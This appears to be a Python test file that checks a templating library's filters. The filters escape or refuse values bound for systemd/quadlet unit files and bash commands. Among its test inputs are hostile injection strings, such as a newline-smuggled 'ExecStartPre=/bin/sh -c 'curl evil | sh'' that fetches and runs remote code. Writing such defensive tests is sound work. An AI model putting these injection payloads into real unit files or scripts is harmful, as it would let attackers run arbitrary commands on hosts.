"""Escaping for systemd/quadlet unit files and shell scripts: a hostile value cannot add a
line, a key or a command. Checked against readers that follow the unit-file rules."""

from __future__ import annotations

import subprocess

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from datumc.render import unittext
from datumc.render.errors import CannotCarryError
from datumc.render.jinja import UnescapedValueError, environment
from tests.helpers.interpreters import GO_SPACE, exec_word, quadlet_lookup


def read_value(raw: str) -> str:
    """How quadlet reads `Key=<raw>` back: trimmed, then `%%` is a literal `%`."""
    return raw.strip(" \t").replace("%%", "%")


def split_words(raw: str) -> list[str]:
    """systemd command-line splitting: specifiers, quotes and escapes, then `$$`."""
    text = raw.replace("%%", "\0")
    words: list[str] = []
    i = 0
    while i < len(text):
        if text[i] in " \t":
            i += 1
            continue
        word = ""
        if text[i] == '"':
            i += 1
            while text[i] != '"':
                if text[i] == "\\":
                    i += 1
                word += text[i]
                i += 1
            i += 1
        else:
            while i < len(text) and text[i] not in " \t":
                word += text[i]
                i += 1
        words.append(word.replace("$$", "$").replace("\0", "%"))
    return words


def _refused(text: str) -> bool:
    """What no unit value can hold: controls, line breaks, surrounding blanks, a trailing
    backslash."""
    return (any(ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F or c in "\u2028\u2029" for c in text)
            or text != text.strip(" \t") or text.endswith("\\"))


@given(st.text())
def test_unit_value_round_trips_or_refuses(text: str) -> None:
    try:
        raw = unittext.value(text)
    except unittext.UnitValueError:
        assert _refused(text)
        return
    assert "\n" not in raw and "\r" not in raw
    assert not raw.endswith("\\")
    assert read_value(raw) == text


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_unit_words_round_trip_or_refuse(words: list[str]) -> None:
    try:
        raw = " ".join(unittext.word(w) for w in words)
    except unittext.UnitValueError:
        return
    assert "\n" not in raw and "\r" not in raw
    assert split_words(raw) == words


@pytest.mark.parametrize("hostile", [
    "x\nExecStartPre=/bin/sh -c 'curl evil | sh'",
    "x\r\n[Service]\nExecStart=/bin/evil",
    "trailing\\",
    " padded ",
    "nul\0byte",
])
def test_unit_filter_refuses_what_a_unit_file_cannot_hold(hostile: str) -> None:
    template = environment().from_string("Image={{ value | unit }}\nExec={{ value | unit_word }}\n")
    with pytest.raises(UnescapedValueError):
        template.render(value=hostile)


def test_unit_filters_escape_specifiers_and_variables() -> None:
    template = environment().from_string(
        "Description={{ v | unit }}\nImage={{ v | unit_arg }}\nExec={{ v | unit_word }}\n")
    out = template.render(v='100%h "$HOME" x')
    # systemd alone reads Description= (no `$` expansion); quadlet puts Image= and Exec=
    # on the ExecStart= line, where systemd expands `$HOME`.
    assert out == ('Description=100%%h "$HOME" x\nImage=100%%h "$$HOME" x\n'
                   'Exec="100%%h \\"$$HOME\\" x"\n')


@given(st.text())
def test_quadlet_args_reach_podman_as_written_or_are_refused(text: str) -> None:
    """Image=/ContainerName=: quadlet's Lookup, then systemd's specifiers and `$`."""
    try:
        raw = unittext.arg(text)
    except (unittext.UnitValueError, CannotCarryError):
        assert (_refused(text) or text.startswith('"') or text.endswith('"')
                or text[-1] in GO_SPACE)
        return
    (word,) = quadlet_lookup(raw)
    assert exec_word(word) == text


@pytest.mark.parametrize(("image", "message"), [
    ("reg/x.image", "another quadlet unit"), ("x.build", "another quadlet unit"),
    ("-x", "as an option"), ("--privileged", "as an option"), ('"x"', "double quotes"),
    ('"x', "double quotes"), ('x"', "double quotes"), ("x\u00a0", "U\\+00A0"),
    ("x\u3000", "U\\+3000"),
])
def test_unit_image_refuses_what_quadlet_or_podman_would_misread(image: str,
                                                                 message: str) -> None:
    with pytest.raises(CannotCarryError, match=message):
        environment().from_string("Image={{ v | unit_image }}").render(v=image)


def test_printing_without_a_filter_is_refused() -> None:
    with pytest.raises(UnescapedValueError):
        environment().from_string("Image={{ v }}\n").render(v="x")


@settings(max_examples=30, deadline=None)
@given(st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\0"),
               max_size=40))
def test_sh_filter_is_one_literal_word_in_bash(text: str) -> None:
    quoted = environment().from_string("{{ v | sh }}").render(v=text)
    result = subprocess.run(["bash", "-c", f"printf '%s' {quoted}"], capture_output=True,
                            timeout=10, check=True)
    assert result.stdout == text.encode("utf-8", "surrogateescape")


@pytest.mark.parametrize("text", ["/app/config.yaml", "a-b_c.d:e,f@g+h=i%j"])
def test_sh_plain_is_literal_inside_double_quotes(text: str) -> None:
    emitted = environment().from_string('"x:{{ v | sh_plain }}:y"').render(v=text)
    result = subprocess.run(["bash", "-c", f"printf '%s' {emitted}"], capture_output=True,
                            text=True, timeout=10, check=True)
    assert result.stdout == f"x:{text}:y"


@pytest.mark.parametrize("text", ["", "a b", "$HOME", "`id`", "a'b", 'a"b', "a\\b", "!x"])
def test_sh_plain_refuses_what_double_quotes_would_change(text: str) -> None:
    with pytest.raises(UnescapedValueError, match="needs quoting"):
        environment().from_string('"{{ v | sh_plain }}"').render(v=text)
